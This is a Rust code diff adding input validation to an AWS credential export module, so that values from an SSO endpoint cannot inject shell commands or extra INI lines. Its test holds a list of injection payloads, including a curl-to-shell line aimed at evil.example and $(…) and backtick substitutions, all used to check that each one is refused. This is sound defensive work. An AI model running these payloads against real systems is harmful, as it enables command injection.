@@ -2,6 +2,11 @@
 //! plus a `~/.aws/credentials` section like the one `aws configure set` writes.
 //!
 //! The output holds secrets, so it is returned as a [`Secret`]; showing it is an explicit act.
+//!
+//! The values come from the SSO endpoint (GetRoleCredentials) or a cache file and end up in shell
+//! commands and INI lines, where a `;`, `$(…)`, quote or line break would run a command or add a
+//! key. So nothing is rendered before [`check_credentials`] has held every value to the alphabet AWS
+//! issues it in: a hostile or broken endpoint gets a clear error, not an injection.
 
 use crate::cache::pyjson::{dumps, DumpsOptions, PyValue};
 use crate::cache::AwsCredentials;
@@ -83,6 +88,53 @@ impl FromStr for ExportFormat {
     }
 }
 
+/// Credentials or a section name that cannot be rendered safely; names the value, never shows it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
+#[error(
+    "the {what} has a character outside {allowed}, the characters AWS issues it in, so it was not put \
+     into a shell command or a credentials file (a broken or hostile SSO endpoint, or a damaged cache \
+     file, may have sent it); sign in again, and if it persists check the endpoint the session uses"
+)]
+pub struct InvalidCredentials {
+    /// `access key id`, `secret access key`, `session token` or `section name`.
+    pub what: &'static str,
+    pub allowed: &'static str,
+}
+
+/// AWS's `AccessKeyId` pattern: `[\w]+`, at most 128 characters.
+fn is_access_key_id(value: &str) -> bool {
+    (1..=128).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+}
+
+/// Secret access keys and session tokens are base64 text.
+fn is_base64_text(value: &str) -> bool {
+    !value.is_empty() && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
+}
+
+/// What the AWS SDKs accept in a profile name (`A-Z a-z 0-9 _ - / . % @ : +`).
+fn is_section_name(value: &str) -> bool {
+    !value.is_empty() && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-/.%@:+".contains(&b))
+}
+
+/// Every value of `credentials` in its AWS alphabet: the access key id `[A-Za-z0-9_]` (1 to 128
+/// characters), the secret access key and session token base64 (`A-Za-z0-9+/=`, not empty).
+pub fn check_credentials(credentials: &AwsCredentials) -> Result<(), InvalidCredentials> {
+    const BASE64: &str = "A-Z a-z 0-9 + / =";
+    if !is_access_key_id(&credentials.access_key_id) {
+        return Err(InvalidCredentials {
+            what: "access key id",
+            allowed: "A-Z a-z 0-9 _ (1 to 128 of them)",
+        });
+    }
+    if !is_base64_text(credentials.secret_access_key.expose()) {
+        return Err(InvalidCredentials { what: "secret access key", allowed: BASE64 });
+    }
+    if credentials.session_token.as_ref().is_some_and(|token| !is_base64_text(token.expose())) {
+        return Err(InvalidCredentials { what: "session token", allowed: BASE64 });
+    }
+    Ok(())
+}
+
 /// What `aws configure export-credentials --format F` prints for `credentials` on Linux/macOS.
 ///
 /// - Per-line formats: access key, secret key, then session token and expiration when present, each
@@ -91,7 +143,13 @@ impl FromStr for ExportFormat {
 ///   we always emit `\n`.
 /// - `process`: `json.dumps(…, indent=2, separators=(',', ': '))` + `\n`; no `AccountId`.
 /// - The expiration is Python's `isoformat()` of an aware UTC datetime: `…+00:00`, not `Z`.
-pub fn export_credentials(credentials: &AwsCredentials, format: ExportFormat) -> Secret {
+///
+/// Refused when a value is outside its alphabet ([`check_credentials`]).
+pub fn export_credentials(
+    credentials: &AwsCredentials,
+    format: ExportFormat,
+) -> Result<Secret, InvalidCredentials> {
+    check_credentials(credentials)?;
     let expiration = credentials.expiration.map(|t| t.to_isoformat_utc());
     if format == ExportFormat::Process {
         let mut entries = vec![
@@ -107,7 +165,7 @@ pub fn export_credentials(credentials: &AwsCredentials, format: ExportFormat) ->
         }
         let mut out = dumps(&PyValue::Object(entries), DumpsOptions::INDENT_2);
         out.push('\n');
-        return Secret::new(out);
+        return Ok(Secret::new(out));
     }
     let mut out = String::new();
     let mut push = |name: &str, value: &str| {
@@ -122,7 +180,7 @@ pub fn export_credentials(credentials: &AwsCredentials, format: ExportFormat) ->
     if let Some(expiration) = &expiration {
         push("AWS_CREDENTIAL_EXPIRATION", expiration);
     }
-    Secret::new(out)
+    Ok(Secret::new(out))
 }
 
 /// A `~/.aws/credentials` section for these credentials, laid out as `aws configure set` writes
@@ -136,14 +194,23 @@ pub fn export_credentials(credentials: &AwsCredentials, format: ExportFormat) ->
 /// ```
 ///
 /// The expiration has no key in the credentials file (no SDK reads one), so it is left out.
-pub fn credentials_file_section(section: &str, credentials: &AwsCredentials) -> Secret {
+/// Refused when a value is outside its alphabet ([`check_credentials`]) or the section name has a
+/// character the SDKs do not accept in a profile name (a `]` or line break would add lines).
+pub fn credentials_file_section(
+    section: &str,
+    credentials: &AwsCredentials,
+) -> Result<Secret, InvalidCredentials> {
+    if !is_section_name(section) {
+        return Err(InvalidCredentials { what: "section name", allowed: "A-Z a-z 0-9 _ - / . % @ : +" });
+    }
+    check_credentials(credentials)?;
     let mut out = format!("[{section}]\n");
     out.push_str(&format!("aws_access_key_id = {}\n", credentials.access_key_id));
     out.push_str(&format!("aws_secret_access_key = {}\n", credentials.secret_access_key.expose()));
     if let Some(token) = &credentials.session_token {
         out.push_str(&format!("aws_session_token = {}\n", token.expose()));
     }
-    Secret::new(out)
+    Ok(Secret::new(out))
 }
 
 #[cfg(test)]
@@ -164,12 +231,12 @@ mod tests {
     #[test]
     fn process_format_matches_the_spec_example() {
         assert_eq!(
-            export_credentials(&creds(), ExportFormat::Process).expose(),
+            export_credentials(&creds(), ExportFormat::Process).unwrap().expose(),
             "{\n  \"Version\": 1,\n  \"AccessKeyId\": \"ASIAEXAMPLE\",\n  \"SecretAccessKey\": \"wJalr/K7MDENG+bPxRfiCY\",\n  \"SessionToken\": \"IQoJb3JpZ2luX2Vj//token==\",\n  \"Expiration\": \"2024-05-01T13:00:00+00:00\"\n}\n"
         );
         let static_keys = AwsCredentials { session_token: None, expiration: None, ..creds() };
         assert_eq!(
-            export_credentials(&static_keys, ExportFormat::Process).expose(),
+            export_credentials(&static_keys, ExportFormat::Process).unwrap().expose(),
             "{\n  \"Version\": 1,\n  \"AccessKeyId\": \"ASIAEXAMPLE\",\n  \"SecretAccessKey\": \"wJalr/K7MDENG+bPxRfiCY\"\n}\n"
         );
     }
@@ -184,11 +251,11 @@ mod tests {
             (ExportFormat::Fish, "set -gx AWS_ACCESS_KEY_ID \"ASIAEXAMPLE\"\nset -gx AWS_SECRET_ACCESS_KEY \"wJalr/K7MDENG+bPxRfiCY\"\nset -gx AWS_SESSION_TOKEN \"IQoJb3JpZ2luX2Vj//token==\"\nset -gx AWS_CREDENTIAL_EXPIRATION \"2024-05-01T13:00:00+00:00\"\n"),
         ];
         for (format, text) in expected {
-            assert_eq!(export_credentials(&creds(), format).expose(), text, "{format}");
+            assert_eq!(export_credentials(&creds(), format).unwrap().expose(), text, "{format}");
         }
         let static_keys = AwsCredentials { session_token: None, expiration: None, ..creds() };
         assert_eq!(
-            export_credentials(&static_keys, ExportFormat::Env).expose(),
+            export_credentials(&static_keys, ExportFormat::Env).unwrap().expose(),
             "export AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalr/K7MDENG+bPxRfiCY\n"
         );
     }
@@ -205,10 +272,66 @@ mod tests {
     #[test]
     fn credentials_file_snippet() {
         assert_eq!(
-            credentials_file_section("123456789012_Admin", &creds()).expose(),
+            credentials_file_section("123456789012_Admin", &creds()).unwrap().expose(),
             "[123456789012_Admin]\naws_access_key_id = ASIAEXAMPLE\naws_secret_access_key = wJalr/K7MDENG+bPxRfiCY\naws_session_token = IQoJb3JpZ2luX2Vj//token==\n"
         );
         let static_keys = AwsCredentials { session_token: None, ..creds() };
-        assert!(!credentials_file_section("x", &static_keys).expose().contains("aws_session_token"));
+        assert!(!credentials_file_section("x", &static_keys).unwrap().expose().contains("aws_session_token"));
+    }
+
+    /// Values a hostile endpoint could send to run a command from a shell snippet or add a line to
+    /// the credentials file: every one is refused, in every format, naming the value but not showing it.
+    #[test]
+    fn values_outside_the_aws_alphabets_are_refused() {
+        let hostile = [
+            "x; curl evil.example | sh",
+            "$(touch /tmp/pwned)",
+            "`id`",
+            "a\"b",
+            "a'b",
+            "a\nb",
+            "a\rb",
+            "x\n[default]\naws_access_key_id = EVIL",
+            "a b",
+            "%PATH%",
+            "a&b",
+            "é",
+            "",
+        ];
+        for value in hostile {
+            let cases = [
+                ("access key id", AwsCredentials { access_key_id: value.into(), ..creds() }),
+                ("secret access key", AwsCredentials { secret_access_key: Secret::new(value), ..creds() }),
+                ("session token", AwsCredentials { session_token: Some(Secret::new(value)), ..creds() }),
+            ];
+            for (what, credentials) in cases {
+                for format in ExportFormat::ALL {
+                    let error = export_credentials(&credentials, format).unwrap_err();
+                    assert_eq!(error.what, what, "{value:?}");
+                    let message = error.to_string();
+                    assert!(message.contains(what) && message.contains("sign in again"), "{message}");
+                    if value.len() >= 5 {
+                        assert!(!message.contains(value), "{message}");
+                    }
+                }
+                assert_eq!(credentials_file_section("p", &credentials).unwrap_err().what, what);
+            }
+            // `%` is a profile-name character (and harmless in an INI header).
+            if value != "%PATH%" {
+                let error = credentials_file_section(value, &creds()).unwrap_err();
+                assert_eq!(error.what, "section name", "{value:?}");
+            }
+        }
+        let long_id = AwsCredentials { access_key_id: "A".repeat(129), ..creds() };
+        assert!(export_credentials(&long_id, ExportFormat::Env).is_err());
+        for section in ["default", "123456789012_AdministratorAccess", "team/dev.x%@:+"] {
+            assert!(credentials_file_section(section, &creds()).is_ok(), "{section}");
+        }
+        let real = AwsCredentials {
+            access_key_id: "ASIAIOSFODNN7EXAMPLE".into(),
+            secret_access_key: Secret::new("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
+            ..creds()
+        };
+        assert!(check_credentials(&real).is_ok());
     }
 }
